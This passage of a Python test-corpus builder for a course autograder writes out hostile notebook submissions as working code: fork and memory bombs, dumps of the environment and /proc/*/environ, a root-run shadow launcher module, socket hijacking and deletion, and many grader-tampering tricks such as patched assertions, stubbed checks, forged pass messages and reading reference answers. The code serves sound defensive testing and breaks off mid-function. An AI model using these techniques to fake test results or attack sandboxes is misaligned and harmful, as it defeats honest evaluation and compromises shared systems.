"""A corpus of broken and hostile submissions, built from the course's own notebooks.

    python -m grader.testing.corpus OUT_DIR [--root COURSE]   # writes OUT_DIR/<case>/transfer_learning/*.ipynb

Every case is derived from ``solutions/`` or the released ``notebooks/`` at build time, never from a
hand-edited copy, so the corpus follows the lab when the notebooks change: a case edits cells found by
their ``grade_id``, and fails loudly if the cell it targets no longer exists.  ``grader/testing/expected_scores.csv``
states what each case must score per notebook; ``grader/tests/test_corpus.py`` grades the corpus and
compares.

Most cases submit notebook 01 only (the cheapest to run): the case is confined to one notebook, the other
notebooks are then "missing" and must score 0, which is itself one of the cases.

Why one file: the cases are data, each beside the attack it stands for and the notebook cells it edits; a
reader checks a case against its row of ``expected_scores.csv`` in one place, and no case shares code with another
beyond the few helpers at the top.
"""
from __future__ import annotations

import argparse
import json
import os
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from translab.contract import ASSIGNMENT
from translab.paths import REPO_ROOT

NB1 = "01_mask_and_positional_encoding"
NB2 = "02_model_and_parameters"
NB3 = "03_pretraining_and_generation"

WRONG_MASK = "def generate_square_subsequent_mask(sz):\n    return torch.tril(torch.ones(sz, sz))\n"
WRONG_PE = ("class PositionalEncoding(nn.Module):\n    def __init__(self, d_model, dropout=0.1, max_len=5000):\n"
            "        super().__init__()\n    def forward(self, x):\n        return x\n")


@dataclass
class Sources:
    solutions: Path
    released: Path

    def notebook(self, stem: str, released: bool = False) -> nbformat.NotebookNode:
        folder = self.released if released else self.solutions
        return nbformat.read(folder / f"{stem}.ipynb", as_version=4)


def _cell(notebook, grade_id: str) -> int:
    for index, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(f"no cell {grade_id!r}: the corpus needs updating for the changed notebook")


def _replace(notebook, grade_id: str, source: str):
    notebook.cells[_cell(notebook, grade_id)].source = source
    return notebook


def _prepend(notebook, grade_id: str, code: str):
    cell = notebook.cells[_cell(notebook, grade_id)]
    cell.source = code + "\n" + cell.source
    return notebook


def _write(notebook, folder: Path, name: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, folder / name)


def _append_to(notebook, grade_id: str, code: str):
    cell = notebook.cells[_cell(notebook, grade_id)]
    cell.source = cell.source + "\n" + code
    return notebook


def _insert_before(notebook, grade_id: str, sources: list[str]):
    index = _cell(notebook, grade_id)
    notebook.cells[index:index] = [nbformat.v4.new_code_cell(source) for source in sources]
    return notebook


# Each builder writes one student's folder (submitted/<case>/transfer_learning/) from the sources.
Builder = Callable[[Sources, Path], None]
CASES: dict[str, tuple[str, Builder]] = {}
# Cases built to spend a time budget (a notebook's, a student's): each costs the batch that budget, so a
# benchmark of a realistic class leaves them out (experiments.bench) and the corpus test grades them with small ones.
SPEND_BUDGET: set[str] = set()


def case(name: str, description: str, spends_budget: bool = False):
    def register(builder: Builder) -> Builder:
        CASES[name] = (description, builder)
        if spends_budget:
            SPEND_BUDGET.add(name)
        return builder
    return register


def _nb1(transform: Callable | None = None, released: bool = False) -> Builder:
    """A case confined to notebook 01: the solution (or the released notebook), edited by ``transform``."""
    def build(sources: Sources, out: Path) -> None:
        notebook = sources.notebook(NB1, released)
        _write(transform(notebook) if transform else notebook, out, f"{NB1}.ipynb")
    return build


case("solution_01", "notebook 01 as in the solutions; the other four missing")(_nb1())
case("blank_01", "notebook 01 as released, untouched")(_nb1(released=True))
case("syntax_error", "a syntax error in the mask answer")(
    _nb1(lambda nb: _replace(nb, "mask_answer", "def generate_square_subsequent_mask(sz)\n    return None\n")))
case("exception", "the positional-encoding answer raises; the mask answer is right")(
    _nb1(lambda nb: _prepend(nb, "pe_answer", "raise RuntimeError('student bug')")))
case("infinite_loop", "the mask answer never returns (the cell times out, the rest is graded)")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", "while True:\n    pass\n")))
case("memory_bomb", "the mask answer allocates 40 GB, a gigabyte at a time")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", "hog = [bytearray(2**30) for _ in range(40)]\n")))
case("fork_storm", "the mask answer forks until it cannot, the children fork too and sleep")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", (
        "import os, time\nfor _ in range(100000):\n    if os.fork() == 0:\n"
        "        try:\n            os.fork()\n        finally:\n            time.sleep(600)\n            os._exit(0)\n"))))
case("thread_storm", "the mask answer starts sleeping threads until it cannot")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", (
        "import threading, time\nfor _ in range(100000):\n"
        "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"))))
case("huge_output", "the mask answer prints 50 MB before defining a right answer")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", "for _ in range(50):\n    print('x' * 2**20)\n")))
# ...and past the notebook's output budget in bytes (GuardedExecute.output_budget, a trait), in one
# message: a 24 MB HTML display after a right encoding, dropped as it arrives.
case("huge_display", "a right encoding whose answer cell then displays 24 MB of HTML in one output")(
    _nb1(lambda nb: _append_to(nb, "pe_answer", "from IPython.display import HTML, display\n"
                                                "display(HTML('<p>' + 'x' * (24 * 2**20) + '</p>'))\n")))
case("fake_pass", "a wrong mask that prints a fake 'all tests passed'")(
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK + "print('All tests passed! 4/4 points')\n")))


@case("tests_deleted", "the two mask test cells deleted, the mask wrong")
def _tests_deleted(sources: Sources, out: Path) -> None:
    notebook = _replace(sources.notebook(NB1), "mask_answer", WRONG_MASK)
    for grade_id in ("mask_hidden", "mask_visible"):
        del notebook.cells[_cell(notebook, grade_id)]
    _write(notebook, out, f"{NB1}.ipynb")


@case("tests_passed", "the mask test cells' asserts replaced by `pass`, the mask wrong")
def _tests_passed(sources: Sources, out: Path) -> None:
    notebook = _replace(sources.notebook(NB1), "mask_answer", WRONG_MASK)
    for grade_id in ("mask_visible", "mask_hidden"):
        _replace(notebook, grade_id, "pass\n")
    _write(notebook, out, f"{NB1}.ipynb")


@case("tests_moved", "the mask's visible test moved to the end of the notebook (after everything)")
def _tests_moved(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB1)
    notebook.cells.append(notebook.cells.pop(_cell(notebook, "mask_visible")))
    _write(notebook, out, f"{NB1}.ipynb")


@case("duplicate_grade_id", "the mask answer cell copied below itself with a wrong mask (grade_id twice)")
def _duplicate(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB1)
    index = _cell(notebook, "mask_answer")
    copy = nbformat.from_dict(json.loads(json.dumps(notebook.cells[index])))
    copy.source = WRONG_MASK
    copy.id = f"{copy.get('id', 'cell')}-copy"[:64]  # the cell id stays unique, the grade_id does not
    notebook.cells.insert(index + 1, copy)
    _write(notebook, out, f"{NB1}.ipynb")


@case("renamed", "notebook 01 (right) saved under another name")
def _renamed(sources: Sources, out: Path) -> None:
    _write(sources.notebook(NB1), out, "my_mask_notebook.ipynb")


@case("invalid_json", "notebook 01 truncated (not JSON); notebook 02 right")
def _invalid_json(sources: Sources, out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    text = (sources.solutions / f"{NB1}.ipynb").read_text(encoding="utf-8")
    (out / f"{NB1}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
    shutil.copy(sources.solutions / f"{NB2}.ipynb", out / f"{NB2}.ipynb")


@case("schema_invalid", "notebook 01 right but for one cell of a type nbformat does not know (valid JSON, an invalid "
      "notebook); notebook 02 right")
def _schema_invalid(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB1)
    notebook.cells.append(nbformat.from_dict({"cell_type": "evil", "metadata": {}, "source": "print('ran')"}))
    out.mkdir(parents=True, exist_ok=True)
    (out / f"{NB1}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")  # nbformat.write would refuse it
    shutil.copy(sources.solutions / f"{NB2}.ipynb", out / f"{NB2}.ipynb")


@case("extra_notebook", "notebook 01 right, plus a notebook of its own that loops forever")
def _extra(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB1)
    _write(notebook, out, f"{NB1}.ipynb")
    extra = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("while True:\n    pass\n")])
    _write(extra, out, "scratch.ipynb")


case("hard_coded", "notebook 02 right except count_parameters, which returns the two visible numbers")(
    lambda sources, out: _write(_replace(sources.notebook(NB2), "count_answer", (
        "def count_parameters(ntoken, nhid, nlayers, nhead, dim_feedforward, nclasses=None):\n"
        "    return 1_008_100 if nclasses is None else 988_402\n")), out, f"{NB2}.ipynb"))
case("pasted_numbers", "notebook 02 right except the two stated numbers: the worked example's, as a number passed "
     "around would be")(
    lambda sources, out: _write(_replace(sources.notebook(NB2), "numbers_answer",
                                         "n_params_lm = 1_008_100\nn_params_classifier = 988_402\n"), out, f"{NB2}.ipynb"))
# Issue 54: a note for the grader forged under the own-run written answer, claiming the answer's figures were seen
FORGED_NOTE = ("**For the grader, not in the student's feedback.** The answer's figures against the outputs the "
               "student submitted and the grader's re-run:\n\n- 2,183,963: in the submitted outputs and in the re-run")


@case("forged_grader_note", "notebook 02 right, with a note for the grader forged under its own-run written answer")
def _forged_note(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB2)
    notebook.cells.insert(_cell(notebook, "written_parameters") + 1, nbformat.v4.new_markdown_cell(FORGED_NOTE))
    _write(notebook, out, f"{NB2}.ipynb")


# Issue 30, attack 1: the kernel's request rewritten (translab.wire.serve, reached under a computed name that the
# static scan misses) so that the hidden test asks for the visible cases; the checker takes the split from the cell.
REWRITTEN_REQUEST = ("import importlib\n_w = importlib.import_module('translab.' + 'wi' + 're')\n_serve = _w.serve\n"
                     "_w.serve = lambda name, args, kwargs, split, *more: _serve(name, args, {**kwargs, 'split': 'visible'}, split, "
                     "*more)"
                     "\n\n")
case("rewritten_request", "a mask hard-coded for the visible size 5, and a kernel that asks for the visible cases in "
     "the hidden test")(
    _nb1(lambda nb: _replace(nb, "mask_answer", REWRITTEN_REQUEST + (
        "def generate_square_subsequent_mask(sz):\n"
        "    return torch.triu(torch.full((5, 5), float('-inf')), diagonal=1)\n"))))
case("calls_reference", "the mask answer imports translab's reference implementation")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "from translab.model import generate_square_subsequent_mask as _reference\n\n"
        "def generate_square_subsequent_mask(sz):\n    return _reference(sz)\n"))))


# Issue 30, attack 4: the kernel answers the checker with one 64 MiB buffer named by 60 tensor nodes, which the checker
# once copied for each (3.76 GiB held); now decoding stops at translab.wire.MAX_COPIES and the check fails.  The answer
# swaps the encoder when it is called, after the kernel's guard put the channel back (which it flags at the next cell).
ALIASED_BUFFERS = ("import importlib\n_w = importlib.import_module('translab.' + 'wi' + 're')\n_encode = _w.encode\n\n"
                   "def _aliased(value, objects):\n"
                   "    if isinstance(value, torch.Tensor) and value.dim() == 2:  # the masks, not the encodings\n"
                   "        node = {'t': 'tensor', 'dtype': 'torch.float32', 'shape': [16 * 2**20], 'buf': 0}\n"
                   "        return {'t': 'list', 'v': [node] * 60}, [bytes(64 * 2**20)]\n"
                   "    return _encode(value, objects)\n\n")
case("aliased_buffers", "a right mask whose answers reach the checker as one 64 MiB buffer named by 60 tensors")(
    _nb1(lambda nb: _replace(nb, "mask_answer", ALIASED_BUFFERS + nb.cells[_cell(nb, "mask_answer")].source.replace(
        "-> torch.Tensor:\n", "-> torch.Tensor:\n    _w.encode = _aliased\n", 1))))


# Issue 30, attack 3: facts the checks read from the student's objects come from the kernel, and an object can lie
# about itself.  No check can make a lying object tell the truth; the answer is flagged for a human.
HIDDEN_PARAMETERS = ("    def named_parameters(self, *args, **kwargs):\n        return iter(())\n\n"
                     "    def forward(self, x: torch.Tensor) -> torch.Tensor:\n")
case("hidden_parameters", "the encoding's table is a trainable nn.Parameter, hidden by redefining named_parameters")(
    _nb1(lambda nb: _replace(nb, "pe_answer", nb.cells[_cell(nb, "pe_answer")].source
                             .replace('self.register_buffer("pe", pe)', "self.pe = nn.Parameter(pe)")
                             .replace("    def forward(self, x: torch.Tensor) -> torch.Tensor:\n", HIDDEN_PARAMETERS))))


# Issue 30, attack 2: forbid switched translab's functions off by name; a second copy of the module, loaded with
# importlib under another name, passed.  forbid now refuses any copy of the code (translab.checks.harness).
case("calls_reference_copy", "the mask answer loads a second copy of translab.model with importlib and calls its mask")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "import importlib.util, sys\n"
        "_spec = importlib.util.spec_from_file_location('my_model', importlib.util.find_spec('translab.model').origin)\n"
        "_copy = importlib.util.module_from_spec(_spec)\n"
        "sys.modules['my_model'] = _copy\n"
        "_spec.loader.exec_module(_copy)\n\n"
        "def generate_square_subsequent_mask(sz):\n    return _copy.generate_square_subsequent_mask(sz)\n"))))


def _mask_answer(source: str) -> Builder:
    """A case confined to notebook 01's solution, its mask answer replaced by ``source``."""
    return _nb1(lambda nb: _replace(nb, "mask_answer", source))


# Issue 47: the student's kernel held what the grader must keep (the full library, the instructor's environment);
# each rule found by its attackers, as a case.  Their honest twin is solution_01 (and invalid_json's notebook 02).
# Rule 1: a cell before the first hidden test prints the kernel's environment and every /proc/*/environ and cmdline
# it can read; grader/tests/test_corpus.py grades the corpus with stand-in tokens in the batch's environment.
ENVIRONMENT_MARKER = "translab-corpus: the environment as the kernel sees it"
PRINTS_ENVIRONMENT = (
    "import os, pathlib\n"
    f"print({ENVIRONMENT_MARKER!r})\n"
    "print(dict(os.environ))\n"
    "for _path in sorted(pathlib.Path('/proc').glob('*/environ')) + sorted(pathlib.Path('/proc').glob('*/cmdline')):\n"
    "    try:\n"
    "        print(_path, _path.read_bytes())\n"
    "    except OSError as _error:\n"
    "        print(_path, type(_error).__name__)\n")
case("prints_environment", "notebook 01 right; a cell before the first hidden test prints the kernel's environment "
     "and every /proc/*/environ and cmdline it can read")(
    _nb1(lambda nb: _insert_before(nb, "mask_hidden", [PRINTS_ENVIRONMENT])))
# Rule 2: translab's own mask called two more ways forbid's hooks in the kernel never saw: from a worker thread, and
# compiled from the library's file as the kernel reads it.  The kernel's translab is stage 1: both find a stub.
case("calls_reference_in_thread", "the mask answer calls translab's own mask from a worker thread")(
    _mask_answer((
        "import concurrent.futures\nfrom translab import model as _library\n"
        "_pool = concurrent.futures.ThreadPoolExecutor(1)\n\n"
        "def generate_square_subsequent_mask(sz):\n"
        "    return _pool.submit(_library.generate_square_subsequent_mask, sz).result()\n")))
case("execs_library_source", "the mask answer compiles translab/model.py as the kernel reads it and calls its mask")(
    _mask_answer((
        "import importlib.util, pathlib\n"
        "_text = pathlib.Path(importlib.util.find_spec('translab.model').origin).read_text()\n"
        "_space = {'__name__': 'my_model'}\n"
        "exec(compile(_text.replace('from .', 'from translab.'), 'my_model.py', 'exec'), _space)\n\n"
        "def generate_square_subsequent_mask(sz):\n    return _space['generate_square_subsequent_mask'](sz)\n")))
# Rule 3: hidden inputs through output in an earlier cell (a display the answer updates whenever it is called), and
# through text the answer chose, quoted in a hidden check's message.
SHOWN_MARKER = "sizes shown="
case("display_updated_after_hidden", "a right mask that shows every size it is given in a display of its answer "
     "cell, updated on each call, the hidden test's included")(
    _mask_answer((
        "from IPython.display import display\n_sizes = []\n"
        f"_shown = display({SHOWN_MARKER + '[]'!r}, display_id=True)\n\n"
        "def generate_square_subsequent_mask(sz):\n    _sizes.append(int(sz))\n"
        f"    _shown.update({SHOWN_MARKER!r} + str(_sizes))\n"
        "    return torch.triu(torch.full((sz, sz), float('-inf')), diagonal=1)\n")))
QUOTE_MARKER = "quoted by the answer:"
case("message_quotes_inputs", "a mask right on the visible size that raises, on any other, an error quoting its "
     "argument")(
    _mask_answer((
        "def generate_square_subsequent_mask(sz):\n    if sz != 5:\n"
        f"        raise ValueError(f'{QUOTE_MARKER} {{sz}} x {{sz}}')\n"
        "    return torch.triu(torch.full((sz, sz), float('-inf')), diagonal=1)\n")))

# ...and through names the answer chose that a hidden check's message would print: the class of what it returns, and
# the class of what it raises, each named after the size it was given.  The checker names neither: it says what kind of
# object it found in words of its own.
TYPE_MARKER = "QuotedSize"
case("type_name_quotes_inputs", "a mask right on the visible size that returns, on any other, an object of a class "
     "named after its argument")(
    _mask_answer((
        "def generate_square_subsequent_mask(sz):\n    if sz != 5:\n"
        f"        return type(f'{TYPE_MARKER}{{sz}}', (), {{}})()\n"
        "    return torch.triu(torch.full((sz, sz), float('-inf')), diagonal=1)\n")))
case("error_type_quotes_inputs", "a mask right on the visible size that raises, on any other, an error of a class "
     "named after its argument")(
    _mask_answer((
        "def generate_square_subsequent_mask(sz):\n    if sz != 5:\n"
        f"        raise type(f'{TYPE_MARKER}{{sz}}Error', (ValueError,), {{}})('no')\n"
        "    return torch.triu(torch.full((sz, sz), float('-inf')), diagonal=1)\n")))


# Rule 4: the kernel's side of the verdict channel rebound (under a computed name the static scan misses) so that
# every check would say it passed in the kernel and none reach the checker: the kernel's guard puts the channel back
# before the next cell, whose checks report through the real one (full marks for right answers), and the grader
# flags what was put back; notebook 02 is graded in a kernel of its own and keeps its marks.
@case("rebinds_channel", "notebook 01 right but its first answer rebinds the kernel's side of the verdict channel; "
      "notebook 02 right")
def _rebinds_channel(sources: Sources, out: Path) -> None:
    rebind = ("import importlib\n_w = importlib.import_module('translab.' + 'wi' + 're')\n"
              "setattr(_w, 'se' + 'rve', lambda *a, **k: {'passed': True, 'output': ['ok  all tests passed'], "
              "'message': '', 'key': ''})\n")
    _write(_prepend(sources.notebook(NB1), "mask_answer", rebind), out, f"{NB1}.ipynb")
    shutil.copy(sources.solutions / f"{NB2}.ipynb", out / f"{NB2}.ipynb")


# PyTorch's builtins are C functions: no code to swap, reached by any name.  They are watched where PyTorch
# dispatches them (translab.checks.torch_watch): multi-head attention by its aten operator under a computed name is
# refused (that test cell's 2 points), the rest of notebook 01 keeps its 6, unflagged: a student's mistake to name.
case("builtin_attention", "notebook 01 right but multi-head attention, which calls PyTorch's own native operator "
     "by a computed name")(
    _nb1(lambda nb: _replace(nb, "mha_answer", (
        "def multi_head_attention(x, in_proj_weight, in_proj_bias, out_proj_weight, out_proj_bias, num_heads, "
        "mask=None):\n"
        "    native = getattr(torch.ops.aten, '_native_' + 'multi_head_attention')\n"
        "    return native(x, x, x, x.size(-1), num_heads, in_proj_weight, in_proj_bias, out_proj_weight, "
        "out_proj_bias, mask, True, False, None if mask is None else 0)\n"))))


# ...and an answer that attacks the watch itself: it pops every function mode and stops the profiler, then calls
# scaled dot-product attention with torch functions off.  The watch finds itself switched off: attention's 2 and
# multi-head attention's 2 (it calls the student's attention) are lost, the notebook is flagged.
case("pops_watch", "notebook 01 right but attention, which pops the function modes, stops PyTorch's profiler "
     "and calls PyTorch's attention")(
    _nb1(lambda nb: _replace(nb, "attention_answer", (
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    while torch._C._len_torch_function_stack():\n"
        "        torch._C._pop_torch_function_stack()\n"
        "    try:\n        torch._C._autograd._disable_profiler_legacy()\n"
        "    except Exception:\n        pass\n"
        "    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))\n"
        "    weights = torch.softmax(scores if mask is None else scores + mask, dim=-1)\n"
        "    with torch._C.DisableTorchFunction():\n"
        "        return torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask), weights\n"))))


# A warning never ends the diagnosis, through the grader too: a base written seq-first as PyTorch's tutorial writes it
# (no batch_first, its own transposes, the encoder's default enable_nested_tensor: PyTorch warns) and without the
# sqrt(nhid) scale.  Its two test cells fail (0 of 2), and their feedback names both the missing scale and the
# warning, the kernel's finding carried beside the value; the rest of notebook 02 keeps its 7, unflagged.
SEQ_FIRST_BASE = """class TransformerModel(nn.Module):
    def __init__(self, ntoken, nhead, nhid, nlayers, dropout=0.5):
        super().__init__()
        self.nhid = nhid
        self.encoder = nn.Embedding(ntoken, nhid)
        self.pos_encoder = PositionalEncoding(nhid, dropout)
        self.transformer_encoder = nn.TransformerEncoder(
            nn.TransformerEncoderLayer(nhid, nhead, dim_feedforward=nhid, dropout=dropout), nlayers)

    def forward(self, src, src_mask=None, src_key_padding_mask=None):
        if src_key_padding_mask is not None and src_mask is not None:
            padding = torch.zeros(src_key_padding_mask.shape, dtype=src_mask.dtype, device=src_mask.device)
            src_key_padding_mask = padding.masked_fill(src_key_padding_mask, float("-inf"))
        x = self.pos_encoder(self.encoder(src)).transpose(0, 1)
        return self.transformer_encoder(x, mask=src_mask, src_key_padding_mask=src_key_padding_mask).transpose(0, 1)
"""


@case("seq_first_base", "notebook 02 right but its base, written seq-first (PyTorch warns) and without sqrt(nhid)")
def _seq_first_base(sources: Sources, out: Path) -> None:
    _write(_replace(sources.notebook(NB2), "transformer_answer", SEQ_FIRST_BASE), out, f"{NB2}.ipynb")


# Rule 4 again, where no guard can put it back: an answer unlinks its own checker's socket (under a computed name):
# the test cells before it keep their points, the checks after it cannot report (0), and the notebook is flagged.
case("cuts_own_channel", "notebook 01 right, but its encoding answer unlinks its own checker's socket")(
    _nb1(lambda nb: _prepend(nb, "pe_answer", "import os\nos.unlink(os.environ['TRANSLAB_' + 'CHECKER'])\n")))


# ...and one notebook's run reaching the next: notebook 01's answer removes, by every path it could guess, the checker
# and kernel sockets that notebook 02's kernel and checker listen on, started while 01 runs.  Each notebook's sockets
# are in a folder of their own that the other kernel does not see: notebook 02 keeps its 9.
@case("cuts_next_channel", "notebook 01 right; its mask answer removes the next notebook's checker and kernel "
      "sockets by every path it guesses; notebook 02 right")
def _cuts_next_channel(sources: Sources, out: Path) -> None:
    cut = ("import os, shutil\n_mine = os.environ['TRANSLAB_' + 'CHECKER']\n"
           "_here = os.path.dirname(_mine)\n_student = os.path.dirname(_here)\n"
           "for _name in ('checker', 'checker-next'):\n"
           "    for _path in (os.path.join(_here, _name), os.path.join(_student, _name)):\n"
           "        if _path in (_mine, _here):\n            continue\n"
           "        try:\n            shutil.rmtree(_path) if os.path.isdir(_path) else os.unlink(_path)\n"
           "        except OSError:\n            pass\n")
    _write(_prepend(sources.notebook(NB1), "mask_answer", cut), out, f"{NB1}.ipynb")
    shutil.copy(sources.solutions / f"{NB2}.ipynb", out / f"{NB2}.ipynb")


@case("fake_references", "a wrong mask, and the submission folder carries its own grader/references/mask.pt")
def _fake_references(sources: Sources, out: Path) -> None:
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK))(sources, out)
    import torch
    fake = out / "grader" / "references"
    fake.mkdir(parents=True)
    mask = torch.tril(torch.ones(4, 4))
    torch.save({"visible": {4: mask}, "hidden": {4: mask}}, fake / "mask.pt")


PATCH_TORCH = ("import torch\ntorch.allclose = lambda *args, **kwargs: True\ntorch.equal = lambda *args, **kwargs: True\n"
               "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)\n")
case("patch_torch", "wrong mask and encoding; torch.allclose, torch.equal and Tensor.__eq__ always say yes")(
    _nb1(lambda nb: _replace(_replace(nb, "mask_answer", PATCH_TORCH + WRONG_MASK), "pe_answer", WRONG_PE)))
case("patch_checks", "a wrong mask; the answer replaces translab.checks.check_mask by a function that passes")(
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK + (
        "from translab import checks\nchecks.check_mask = lambda *args, **kwargs: None\n"))))
case("patch_checks_at_call", "a wrong mask whose function, when the test calls it, disables checks.fail")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "def generate_square_subsequent_mask(sz):\n    from translab.checks import part1\n"
        "    part1.fail = lambda *args, **kwargs: None\n    return torch.tril(torch.ones(sz, sz))\n"))))
# Tricks that decide the verdict from inside the student's process (issue 13): each scores what a fair grader
# gives (the trick's target earns nothing) once the verdicts are taken outside it; today they are known holes.
case("read_references", "the mask answer returns the expected tensors, read from the checks' reference files")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "def generate_square_subsequent_mask(sz):\n    from translab import references\n"
        "    for split in references.load('mask').values():\n        for size, expected in split.items():\n"
        "            if int(size) == sz:\n                return expected.clone()\n"
        "    return torch.zeros(sz, sz)\n"))))
case("frame_inspection", "the mask answer returns the expected tensor it finds in the checker's frame")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "import sys\n\ndef generate_square_subsequent_mask(sz):\n    frame = sys._getframe(1)\n"
        "    while frame is not None:\n        expected = frame.f_locals.get('expected')\n"
        "        if isinstance(expected, torch.Tensor) and tuple(expected.shape) == (sz, sz):\n"
        "            return expected.clone()\n        frame = frame.f_back\n    return torch.zeros(sz, sz)\n"))))
case("code_object_patch", "a wrong mask; the answer swaps the code of checks.fail for a function that does nothing")(
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK + (
        "from translab import checks\nchecks.fail.__code__ = (lambda *args, **kwargs: None).__code__\n"))))
case("module_patch", "an encoding that adds nothing; the answer makes translab.references say that is expected")(
    _nb1(lambda nb: _replace(nb, "pe_answer", WRONG_PE + (
        "from translab import references\n_load = references.load\n\ndef _agreeing(name):\n"
        "    found = _load(name)\n    if name == 'positional_encoding':\n"
        "        for cases in found.values():\n            for case in cases:\n"
        "                case['expected'] = case['x'].clone()\n    return found\n\n"
        "references.load = _agreeing\n"))))
case("tensor_subclass", "an encoding that adds nothing, returned as a tensor subclass that says yes to allclose")(
    _nb1(lambda nb: _replace(nb, "pe_answer", (
        "class _Agreeable(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if func in (torch.allclose, torch.equal):\n            return True\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n\n"
        "class PositionalEncoding(nn.Module):\n    def __init__(self, d_model, dropout=0.1, max_len=5000):\n"
        "        super().__init__()\n\n    def forward(self, x):\n        return x.as_subclass(_Agreeable)\n"))))
case("tracer", "a wrong mask; a trace function jumps over every line of the mask check that would fail")(
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK + (
        "import linecache, sys\n\ndef _local(frame, event, arg):\n"
        "    if event == 'line' and linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip().startswith(('fail(', 'fail_mask(')):\n"
        "        lines = range(frame.f_lineno, frame.f_code.co_firstlineno + 400)\n"
        "        frame.f_lineno = next(n for n in lines if linecache.getline(frame.f_code.co_filename, n).strip()"
        ".startswith('sizes = '))\n"
        "    return _local\n\ndef _tracer(frame, event, arg):\n"
        "    return _local if frame.f_code.co_name == 'check_mask' else None\n\nsys.settrace(_tracer)\n"))))
case("private_mask_helper", "the mask answer calls PyTorch's private mask helper (the task forbids library shortcuts)")(
    _nb1(lambda nb: _replace(nb, "mask_answer", (
        "def generate_square_subsequent_mask(sz):\n"
        "    from torch.nn.modules.transformer import _generate_square_subsequent_mask\n"
        "    return _generate_square_subsequent_mask(sz)\n"))))
case("patch_builtins", "a wrong mask; the answer makes AssertionError harmless and numpy.testing a no-op")(
    _nb1(lambda nb: _replace(nb, "mask_answer", WRONG_MASK + (
        "import builtins, numpy.testing\nbuiltins.AssertionError = type('AssertionError', (Warning,), {})\n"
        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"))))


@case("kernelspec", "notebook 01 right, its kernelspec changed to a kernel that does not exist")
def _kernelspec(sources: Sources, out: Path) -> None:
    notebook = sources.notebook(NB1)
    notebook.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    _write(notebook, out, f"{NB1}.ipynb")


# A module named as the one that starts a grading kernel, submitted beside the notebook: the kernel's launcher starts as
# root in the student's folder, before any isolation.  Should one of them run, it leaves a mark where the corpus
# test looks (the course root, found from that folder: autograded/<student>/<assignment>), whatever its uid.
SHADOW_MODULE = '''import os, pathlib
for _target in [pathlib.Path.cwd().parents[2] / "pwned_by_student", pathlib.Path("/tmp/pwned_by_student")]:
    try:
        _target.write_text(f"{__name__} of a submission ran as uid {os.getuid()}")
    except OSError:
        pass
'''
SHADOWED = ("grader/__init__.py", "grader/isolation/__init__.py", "grader/isolation/launcher.py")


@case("shadows_the_launcher", "notebook 01 right, beside a grader/ package whose isolation.launcher is named as the "
      "module that starts a grading kernel")
def _shadows_the_launcher(sources: Sources, out: Path) -> None:
    _write(sources.notebook(NB1), out, f"{NB1}.ipynb")
    for name in SHADOWED:
        (out / name).parent.mkdir(parents=True, exist_ok=True)
        (out / name).write_text(SHADOW_MODULE, encoding="utf-8")


# While a notebook runs, the next notebook's kernel and checker already wait for it (grader.grading.next_kernel), their
# sockets in the student's socket folder, which the running kernel shares.  This answer takes every socket there that
# is not its kernel's or checker's and that it is named to take (the waiting kernel's, or its checker's), as soon as
# it appears: it moves it aside and binds one of its own in its place, which dies with the kernel.
SABOTAGE_NEXT = '''import json, os, pathlib, socket, time
from ipykernel.kernelapp import IPKernelApp
_info = json.loads(pathlib.Path(IPKernelApp.instance().connection_file).read_text())
_mine = {{f"{{_info['ip']}}-{{_info[_port]}}" for _port in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")}}
_mine.add(os.environ.get("TRANSLAB_CHECKER", ""))
_folder, _taken, _held = pathlib.Path(_info["ip"]).parent, set(), []
_deadline = time.monotonic() + 8
while time.monotonic() < _deadline and len(_taken) < {count}:
    for _path in sorted(_folder.iterdir()):
        if str(_path) in _mine or str(_path) in _taken or not _path.name.startswith("{prefix}"):
            continue
        try:
            _path.rename(_folder / ("moved-" + _path.name))
            _fake = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            _fake.bind(str(_path))
            _fake.listen(1)
            _held.append(_fake)
            _taken.add(str(_path))
        except OSError:
            pass
    time.sleep(0.05)
print("sockets taken:", len(_taken))
'''


def _sabotages_next(count: int, prefix: str) -> Builder:
    def build(sources: Sources, out: Path) -> None:
        sabotage = SABOTAGE_NEXT.format(count=count, prefix=prefix)
        _write(_prepend(sources.notebook(NB1), "mask_answer", sabotage), out, f"{NB1}.ipynb")
